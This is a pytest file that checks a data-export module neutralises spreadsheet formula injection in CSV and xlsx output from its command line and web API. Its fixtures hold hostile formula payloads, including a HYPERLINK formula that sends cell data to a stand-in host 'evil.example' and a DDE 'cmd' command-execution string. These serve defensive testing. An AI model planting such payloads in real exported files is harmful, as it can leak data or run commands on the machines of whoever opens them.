"""The one table writer (zhizao.export): formula injection neutralised in CSV and xlsx from the API and the
command line; JSON and Parquet unchanged."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

import zhizao
from zhizao.cli.main import app
from zhizao.export import FORMULA_STARTS, is_formula_like, neutralise, to_bytes, write_table

#: texts that spreadsheet programs would run as formulas (ids and reasons of a hostile tenant)
EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
        "\uff1d1+1", "=cmd|' /C calc'!A0"]


def test_neutralise_prefixes_formula_like_text_only():
    for v in EVIL:
        assert is_formula_like(v) and neutralise(v) == "'" + v
    for v in ["jam", "M-1", "1-2", "", " =x", "'=x", 5, -5.0, None]:
        assert neutralise(v) == v
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}


def _frame():
    return pd.DataFrame({"equipment_id": EVIL + ["M1"], "seconds": [-5.0] * len(EVIL) + [60.0],
                         "at": pd.to_datetime(["2024-01-01T00:00:00Z"] * (len(EVIL) + 1))})


def test_csv_cells_come_back_as_text():
    rows = list(csv.reader(io.StringIO(to_bytes(_frame(), "csv").decode("utf-8"), newline="")))
    assert rows[0] == ["equipment_id", "seconds", "at"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL] + ["M1"]
    assert [r[1] for r in rows[1:]] == ["-5.0"] * len(EVIL) + ["60.0"]  # numbers stay numbers
    assert rows[1][2] == "2024-01-01T00:00:00+00:00"
    assert to_bytes(_frame(), "csv", bom=True).startswith("\ufeff".encode())


def _xlsx_cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in wb.active.iter_rows()]


def test_xlsx_cells_are_text_never_formulas_and_keep_their_value():
    cells = _xlsx_cells(to_bytes(_frame(), "xlsx"))
    # (XML reads a carriage return back as a line feed)
    assert [c[0][0] for c in cells[1:]] == [v.replace("\r", "\n") for v in EVIL] + ["M1"]
    assert all(row[0][1] == "s" for row in cells[1:])  # text cells: no formula ("f")
    assert [row[0][2] for row in cells[1:]] == [True] * len(EVIL) + [False]
    assert all(row[1][1] == "n" for row in cells[1:])
    assert not any(dt == "f" for row in cells for _, dt, _ in row)


def test_json_and_parquet_keep_values(tmp_path):
    assert [r["equipment_id"] for r in json.loads(to_bytes(_frame(), "json"))] == EVIL + ["M1"]
    write_table(_frame(), "parquet", tmp_path / "t.parquet")
    assert pd.read_parquet(tmp_path / "t.parquet")["equipment_id"].tolist() == EVIL + ["M1"]


def test_unknown_format_is_an_input_error():
    from zhizao.errors import InputError

    with pytest.raises(InputError):
        to_bytes(_frame(), "ods")


@pytest.fixture
def evil_store(tmp_path):
    ids = ["=1+1", "+SUM(1)", "-1+2", "@A1"]
    eq = pd.DataFrame({"equipment_id": ids, "site": ["=S"] * 4, "enterprise": ["E1"] * 4})
    st = pd.DataFrame({"equipment_id": ids, "start": ["2024-01-01T00:00:00Z"] * 4,
                       "end": ["2024-01-01T01:00:00Z"] * 4, "state": ["unplanned_downtime"] * 4,
                       "reason": ["=HYPERLINK(\"http://evil/\")"] * 4})
    eq.to_csv(tmp_path / "eq.csv", index=False)
    st.to_csv(tmp_path / "st.csv", index=False)
    db = tmp_path / "evil.duckdb"
    with zhizao.connect(db) as ws:
        ws.ingest("equipment", tmp_path / "eq.csv")
        ws.ingest("states", tmp_path / "st.csv")
        ws.ingest("states", tmp_path / "st.csv", source="=bad.csv")  # already loaded: nothing
    return db, ids


def test_cli_csv_and_xlsx_neutralise_ids(evil_store, tmp_path):
    db, ids = evil_store
    r = CliRunner().invoke(app, ["kpi", "--db", str(db), "--format", "csv", "--period", "all"])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.output)))
    assert sorted(x["equipment_id"] for x in rows) == sorted("'" + i for i in ids)
    out = tmp_path / "k.xlsx"
    r = CliRunner().invoke(app, ["kpi", "--db", str(db), "--format", "xlsx", "--period", "all", "-o", str(out)])
    assert r.exit_code == 0, r.output
    cells = _xlsx_cells(out.read_bytes())
    assert sorted(row[0][0] for row in cells[1:]) == sorted(ids)
    assert not any(dt == "f" for row in cells for _, dt, _ in row)


def test_api_csv_and_xlsx_neutralise_ids_and_reasons(evil_store):
    pytest.importorskip("fastapi")
    from test_server_support import bearer, make_client

    from zhizao.server import accounts

    db, ids = evil_store
    with zhizao.connect(db) as ws:
        accounts.ensure_tables(ws.con)
        accounts.add_user(ws.con, "root", "correct horse battery", "admin")
    client = make_client(db)
    try:
        token = client.post("/api/v1/auth/login", json={"username": "root", "password": "correct horse battery"}
                            ).json()["token"]
        r = client.get("/api/v1/stop-reasons?level=equipment&format=csv", headers=bearer(token))
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(r.text)))
        assert sorted(x["equipment_id"] for x in rows) == sorted("'" + i for i in ids)
        assert {x["reason"] for x in rows} == {"'=HYPERLINK(\"http://evil/\")"}
        r = client.get("/api/v1/stop-reasons?level=equipment&format=xlsx", headers=bearer(token))
        assert r.status_code == 200 and "spreadsheetml" in r.headers["content-type"]
        cells = _xlsx_cells(r.content)
        assert {row[2][0] for row in cells[1:]} == {"=HYPERLINK(\"http://evil/\")"}
        assert not any(dt == "f" for row in cells for _, dt, _ in row)
        r = client.get("/api/v1/quarantine?format=csv", headers=bearer(token))
        assert r.status_code == 200
    finally:
        client.app.state.server.close()
